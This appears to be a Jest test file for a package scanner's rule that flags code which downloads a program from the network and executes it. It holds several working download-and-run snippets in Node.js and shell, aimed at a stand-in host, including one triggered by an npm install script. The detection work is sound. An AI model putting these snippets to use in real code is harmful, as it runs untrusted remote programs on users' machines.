import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('EXE-003 downloads a program and runs it', () => {
  it.each([
    [
      'by pipe',
      `const fs = require('fs'), https = require('https'), { execFile } = require('child_process'); const file = '/tmp/tool';
       https.get('https://x.example.invalid/tool', (r) => { const out = fs.createWriteStream(file); r.pipe(out); out.on('finish', () => { fs.chmodSync(file, 0o755); execFile(file); }); });`,
    ],
    [
      'by await',
      `import { writeFileSync, chmodSync } from 'node:fs'; import { execSync } from 'node:child_process'; import { tmpdir } from 'node:os';
       const path = tmpdir() + '/x'; writeFileSync(path, Buffer.from(await (await fetch('https://x.example.invalid')).arrayBuffer())); chmodSync(path, '755'); execSync(\`\${path} --quiet\`);`,
    ],
    [
      'by its name on Windows',
      `const fs = require('fs'); const to = process.env.TEMP + '\\\\a.exe'; const b = await (await fetch('https://x.example.invalid')).arrayBuffer();
       await fs.promises.writeFile(to, b); require('child_process').spawn(to, { detached: true });`,
    ],
    [
      'with a mode at once',
      `const fs = require('fs'); const p = './tool'; fs.writeFileSync(p, await (await fetch(u)).text(), { mode: 0o755 }); require('child_process').spawn(p);`,
    ],
  ])('finds it %s', (_name, source) => {
    expect(hitsOf('EXE-003', js(source))).toEqual(['critical index.js']);
  });

  it('finds it in a shell file, line by line', () => {
    const sh = 'curl https://x.example.invalid/tool -o tool\nchmod +x tool\n./tool -k &\n';
    expect(hitsOf('EXE-003', { ...manifest({ scripts: { install: 'sh a.sh' } }), 'a.sh': sh })).toEqual([
      'critical a.sh',
    ]);
  });

  it.each([
    [
      'a download that is kept',
      `const fs = require('fs'); fs.writeFileSync('data.json', await (await fetch(u)).text()); fs.chmodSync('data.json', 0o644); require('child_process').execSync('git status');`,
    ],
    [
      'a program that is started',
      `require('child_process').execFileSync('./tool'); fetch('https://x.example.invalid');`,
    ],
    [
      'a file of its own made executable',
      `const fs = require('fs'); fs.writeFileSync('run', '#!/bin/sh'); fs.chmodSync('run', 0o755); require('child_process').execFileSync('run'); fetch(u);`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXE-003', js(source))).toEqual([]);
  });
});
